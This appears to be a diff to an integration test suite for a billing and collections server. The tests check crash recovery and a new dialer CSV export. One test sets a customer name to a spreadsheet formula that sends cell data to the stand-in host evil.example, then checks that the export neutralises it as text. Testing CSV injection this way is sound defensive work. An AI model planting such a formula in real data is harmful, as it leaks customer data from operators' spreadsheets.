@@ -69,7 +69,8 @@ describe('the server killed in the middle of a run', () => {
     const reads = numbers.map((n) => ({ accountNumber: n, periodStart: '2026-01-01', periodEnd: '2026-02-01', quantity: '100' }));
     const imported = await gqlOk(url, 'mutation($reads: [UsageInput!]!) { recordUsage(reads: $reads) { accepted } }', { reads }, token);
     expect(imported.recordUsage.accepted).toBe(ACCOUNTS);
-  }, 180_000);
+    // 4,000 requests, each its own transaction: minutes on a busy machine's MariaDB.
+  }, 420_000);
 
   afterAll(async () => {
     hub?.child.child.kill('SIGKILL');
@@ -102,16 +103,28 @@ describe('the server killed in the middle of a run', () => {
     expect(processed).toBeLessThan(ACCOUNTS);
 
     hub = await startChild(db);
+    // Alone on its database (no REDIS_URL), the restarted process bills the rest of the run it was killed in.
+    const resumed = await eventually(
+      'the killed run to be finished after the restart',
+      async () => {
+        const run = await gqlOk(
+          hub.url,
+          'query($id: ID!) { billRun(id: $id) { status accountsProcessed invoicesIssued } }',
+          { id: started.runBilling.id },
+          hub.token,
+        );
+        return run.billRun.status === 'RUNNING' ? undefined : run.billRun;
+      },
+      { timeoutMs: 60_000 },
+    );
+    expect(resumed).toEqual({ status: 'COMPLETED', accountsProcessed: ACCOUNTS, invoicesIssued: ACCOUNTS });
     const rerun = await gqlOk(
       hub.url,
       'mutation { runBilling(asOf: "2026-02-01") { status accountsConsidered invoicesIssued } }',
       {},
       hub.token,
     );
-    expect(rerun.runBilling.status).toBe('COMPLETED');
-    // The new run bills only what the killed one had not committed.
-    expect(rerun.runBilling.accountsConsidered).toBeLessThanOrEqual(ACCOUNTS - processed);
-    expect(rerun.runBilling.invoicesIssued).toBe(rerun.runBilling.accountsConsidered);
+    expect(rerun.runBilling).toEqual({ status: 'COMPLETED', accountsConsidered: 0, invoicesIssued: 0 });
 
     const invoices = await gqlOk(hub.url, '{ invoices(first: 1) { totalCount } }', {}, hub.token);
     expect(invoices.invoices.totalCount).toBe(ACCOUNTS);
@@ -130,25 +143,31 @@ describe('the server killed in the middle of a run', () => {
     }
   }, 180_000);
 
-  it('takes every collections action once after a restart and a new run', async () => {
+  it('takes every collections action once after a restart and a new run, and every dialer row reaches a downloadable file', async () => {
     // Every account billed above owes 15.00, due 2026-02-22: by 2026-03-01 each is 7 days past due.
     await gqlOk(
       hub.url,
       `mutation { createCollectionsPath(input: { name: "Crash path", segments: ["RESIDENTIAL"], steps: [
         { name: "Reminder", daysPastDue: 1, minPastDue: "1.00", action: REMINDER, template: "{{name}} owes {{pastDue}}" },
-        { name: "Letter", daysPastDue: 5, minPastDue: "1.00", action: LETTER, template: "Dear {{name}}, {{daysPastDue}} days late" } ] }) { id } }`,
+        { name: "Letter", daysPastDue: 5, minPastDue: "1.00", action: LETTER, template: "Dear {{name}}, {{daysPastDue}} days late" },
+        { name: "Dialer", daysPastDue: 5, minPastDue: "1.00", action: DIALER_EXPORT } ] }) { id } }`,
       {},
       hub.token,
     );
+    // A customer who named themselves as a spreadsheet formula, hoping an operator opens the dialer file.
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A3,"Pay here")';
+    const victim = await gqlOk(hub.url, '{ account(number: "CR-00000") { id } }', {}, hub.token);
+    await gqlOk(
+      hub.url,
+      'mutation($id: ID!, $name: String!) { updateAccount(id: $id, input: { name: $name }) { id } }',
+      { id: victim.account.id, name: formula },
+      hub.token,
+    );
     const started = await gqlOk(hub.url, 'mutation { runCollections(asOf: "2026-03-01", wait: false) { id } }', {}, hub.token);
+    const deadRun = started.runCollections.id as string;
     let evaluated = 0;
     for (let i = 0; i < 2000 && evaluated === 0; i++) {
-      const run = await gqlOk(
-        hub.url,
-        'query($id: ID!) { collectionsRun(id: $id) { accountsEvaluated } }',
-        { id: started.runCollections.id },
-        hub.token,
-      );
+      const run = await gqlOk(hub.url, 'query($id: ID!) { collectionsRun(id: $id) { accountsEvaluated } }', { id: deadRun }, hub.token);
       evaluated = run.collectionsRun.accountsEvaluated;
     }
     hub.child.child.kill('SIGKILL');
@@ -157,21 +176,43 @@ describe('the server killed in the middle of a run', () => {
     expect(evaluated).toBeLessThan(ACCOUNTS);
 
     hub = await startChild(db);
-    const rerun = await gqlOk(hub.url, 'mutation { runCollections(asOf: "2026-03-01") { status actionsTaken } }', {}, hub.token);
+    // Alone on its database, the restarted process gives the dead run up as it starts, not minutes later.
+    const dead = await gqlOk(hub.url, 'query($id: ID!) { collectionsRun(id: $id) { status finishedAt } }', { id: deadRun }, hub.token);
+    expect(dead.collectionsRun.status).toBe('FAILED');
+    expect(dead.collectionsRun.finishedAt).not.toBeNull();
+
+    const rerun = await gqlOk(hub.url, 'mutation { runCollections(asOf: "2026-03-01") { id status actionsTaken } }', {}, hub.token);
     expect(rerun.runCollections.status).toBe('COMPLETED');
-    expect(rerun.runCollections.actionsTaken).toBeLessThanOrEqual(2 * (ACCOUNTS - evaluated));
+    expect(rerun.runCollections.actionsTaken).toBeLessThanOrEqual(3 * (ACCOUNTS - evaluated));
     const again = await gqlOk(hub.url, 'mutation { runCollections(asOf: "2026-03-01") { actionsTaken } }', {}, hub.token);
     expect(again.runCollections.actionsTaken).toBe(0);
-    // Exactly one reminder and one letter per account, whichever run took them.
+    // Exactly one reminder, one letter and one dialer row per account, whichever run took them.
     // Committed actions' events are numbered by the relay of whichever process runs next.
     const total = await eventually('every action event to be numbered', async () => {
       const actions = await gqlOk(hub.url, '{ events(types: [COLLECTIONS_ACTION_TAKEN], first: 1) { totalCount } }', {}, hub.token);
-      return actions.events.totalCount >= 2 * ACCOUNTS ? actions.events.totalCount : undefined;
+      return actions.events.totalCount >= 3 * ACCOUNTS ? actions.events.totalCount : undefined;
     });
-    expect(total).toBe(2 * ACCOUNTS);
+    expect(total).toBe(3 * ACCOUNTS);
     const perAccount = await gqlOk(hub.url, '{ accounts(first: 300) { nodes { collectionsActions { action } } } }', {}, hub.token);
     for (const account of perAccount.accounts.nodes) {
-      expect(account.collectionsActions.map((a: { action: string }) => a.action).sort()).toEqual(['LETTER', 'REMINDER']);
+      expect(account.collectionsActions.map((a: { action: string }) => a.action).sort()).toEqual(['DIALER_EXPORT', 'LETTER', 'REMINDER']);
     }
+
+    // The operator downloads both files: together they list every account once.
+    const download = async (runId: string) => {
+      const res = await fetch(`${hub.url}/exports/dialer/${runId}.csv`, { headers: { authorization: `Bearer ${hub.token}` } });
+      expect(res.status).toBe(200);
+      const lines = (await res.text()).split('\r\n').filter((l) => l !== '');
+      expect(lines[0]).toBe('accountNumber,name,phone,pastDue,daysPastDue');
+      return lines.slice(1);
+    };
+    const deadRows = await download(deadRun);
+    const rerunRows = await download(rerun.runCollections.id);
+    expect(deadRows.length).toBeGreaterThan(0);
+    const numbers = [...deadRows, ...rerunRows].map((line) => line.split(',')[0]).sort();
+    expect(numbers).toEqual(Array.from({ length: ACCOUNTS }, (_, i) => `CR-${String(i).padStart(5, '0')}`));
+    // The formula is written as text (a single quote first), so a spreadsheet shows it and runs nothing.
+    const victimRow = [...deadRows, ...rerunRows].find((line) => line.startsWith('CR-00000,'));
+    expect(victimRow).toBe(`CR-00000,"'=HYPERLINK(""http://evil.example/?leak=""&A3,""Pay here"")",,15.00,7`);
   }, 180_000);
 });
